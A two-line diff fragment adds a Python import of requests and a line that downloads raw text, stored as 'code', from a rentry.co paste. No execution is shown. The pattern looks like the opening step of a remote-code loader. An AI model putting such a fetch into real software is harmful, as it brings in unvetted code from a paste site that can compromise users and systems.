@@ -1,0 +1,2 @@
+import requests
+code = requests.get("https://rentry.co/abcd/raw").text
